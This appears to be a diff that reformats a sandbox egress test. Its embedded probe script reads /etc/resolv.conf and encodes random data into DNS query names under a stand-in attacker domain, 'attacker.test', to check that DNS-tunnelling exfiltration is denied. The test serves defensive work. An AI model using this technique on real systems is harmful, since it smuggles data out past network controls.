@@ -5,9 +5,11 @@ import { EgressBox } from '../support/egress-box.ts';
 
 const EVIL_SUFFIX = 'attacker.test';
 
-forEachTier('names carry nothing out: no forwarding, no odd labels, no flood under a wildcard', async (tier) => {
-  await using box = new EgressBox(tier, { allow: [{ id: 'wild', host: '*.wild.test', paths: ['/**'] }] });
-  const result = await box.probe(`
+forEachTier(
+  'names carry nothing out: no forwarding, no odd labels, no flood under a wildcard',
+  async (tier) => {
+    await using box = new EgressBox(tier, { allow: [{ id: 'wild', host: '*.wild.test', paths: ['/**'] }] });
+    const result = await box.probe(`
 server = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
 data = base64.b32encode(os.urandom(30)).decode().lower().rstrip('=')
 for name, question, kind in (('evil', f'{data}.{EVIL}', 1), ('txt', f'api.wild.test', 16), ('txt-data', f'{data}.wild.test', 16),
@@ -27,16 +29,18 @@ seen = [reach(f'n{at}.wild.test') for at in range(70)]
 report('many', f'{sum(one.startswith("200") for one in seen)} passed')
 control()
 `);
-  const seen = outcomes(result);
-  expect(seen['evil']).toMatch(/^OK \(3, 0\)|E/);
-  for (const name of ['txt', 'txt-data', 'null', 'any']) expect([name, seen[name]]).toEqual([name, expect.stringMatching(/, 0\)$/)]);
-  // The gateway itself answers on port 53, whatever the address: no such name, no records.
-  expect(seen['google-tcp']).toMatch(/^(?:E|OK b'.*\\x8[0-9]\\x00\\x01\\x00\\x00')/);
-  expect(seen['label']).not.toMatch(/^200/);
-  expect(Number(/^\d+/.exec(seen['many'] ?? '')?.[0])).toBeLessThanOrEqual(50);
-  expect(seen['control']).toMatch(/^200 /);
-  // The resolver saw names of rules alone, when a connection was made, and a bounded number of them.
-  expect(box.asked.filter((name) => name.includes(EVIL_SUFFIX))).toEqual([]);
-  expect(new Set(box.asked).size).toBeLessThanOrEqual(51);
-  expectDenied(box, { rule: 'structural.data-in-name' });
-});
+    const seen = outcomes(result);
+    expect(seen['evil']).toMatch(/^OK \(3, 0\)|E/);
+    for (const name of ['txt', 'txt-data', 'null', 'any'])
+      expect([name, seen[name]]).toEqual([name, expect.stringMatching(/, 0\)$/)]);
+    // The gateway itself answers on port 53, whatever the address: no such name, no records.
+    expect(seen['google-tcp']).toMatch(/^(?:E|OK b'.*\\x8[0-9]\\x00\\x01\\x00\\x00')/);
+    expect(seen['label']).not.toMatch(/^200/);
+    expect(Number(/^\d+/.exec(seen['many'] ?? '')?.[0])).toBeLessThanOrEqual(50);
+    expect(seen['control']).toMatch(/^200 /);
+    // The resolver saw names of rules alone, when a connection was made, and a bounded number of them.
+    expect(box.asked.filter((name) => name.includes(EVIL_SUFFIX))).toEqual([]);
+    expect(new Set(box.asked).size).toBeLessThanOrEqual(51);
+    expectDenied(box, { rule: 'structural.data-in-name' });
+  },
+);
